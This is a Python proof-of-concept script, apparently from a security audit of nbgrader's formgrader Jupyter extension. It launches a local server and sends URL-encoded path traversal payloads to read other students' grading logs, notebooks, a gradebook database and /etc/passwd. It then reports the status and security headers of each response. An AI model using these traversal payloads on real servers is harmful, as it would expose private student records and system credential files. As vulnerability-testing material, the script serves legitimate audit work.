"""Lead of a19: which other student-influenced files under the course root the traversal serves, with what type:
a03's course (mallory's kept grading log) and a20's (feedback page). Headers only."""
from lib import *
import urllib.request, secrets, socket, sqlite3
for d, rels in (("/tmp/attack37-user-a03", ["..%2f..%2f..%2fgrading_logs%2fps1_memory%2fmallory.log"]),
                ("/tmp/attack37-user-a20", ["..%2f..%2f..%2ffeedback%2fmallory%2fps1_memory%2fps1_memory.html",
                                            "..%2f..%2f..%2fsubmitted%2fmallory%2fps1_memory%2fps1_memory.ipynb",
                                            "..%2f..%2f..%2f..%2fattack37-user-a21%2fgradebook.db", "..%2f..%2f..%2f..%2f..%2fetc%2fpasswd"])):
    nid = sqlite3.connect(f"{d}/gradebook.db").execute("select n.id from submitted_notebook n join submitted_assignment a on n.assignment_id=a.id where a.student_id='mallory'").fetchone()[0]
    tok = secrets.token_hex(8); port = 18941
    srv = subprocess.Popen(["setpriv", "--reuid", "65534", "--regid", "65534", "--clear-groups", CLONE + "/.venv/bin/jupyter", "server",
                            f"--ServerApp.root_dir={d}", f"--IdentityProvider.token={tok}", f"--port={port}", "--no-browser",
                            "--ServerApp.jpserver_extensions={'nbgrader.server_extensions.formgrader': True}"],
                           env=dict(ENV, PYTHONSAFEPATH="1", HOME="/tmp", DISTCOURSE_JUDGE="kernel", PYTHONPATH=CLONE),
                           stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, cwd=d)
    try:
        for _ in range(60):
            try: socket.create_connection(("127.0.0.1", port), 1).close(); break
            except OSError: time.sleep(0.5)
        time.sleep(2)
        for rel in rels:
            try:
                r = urllib.request.urlopen(f"http://127.0.0.1:{port}/formgrader/submissions/{nid}/{rel}?token={tok}")
                print(rel, r.status, r.headers.get("Content-Type"), "| nosniff:", r.headers.get("X-Content-Type-Options"), "| CSP:", r.headers.get("Content-Security-Policy"))
            except Exception as e:
                print(rel, "->", e)
    finally:
        srv.terminate(); srv.wait(10)
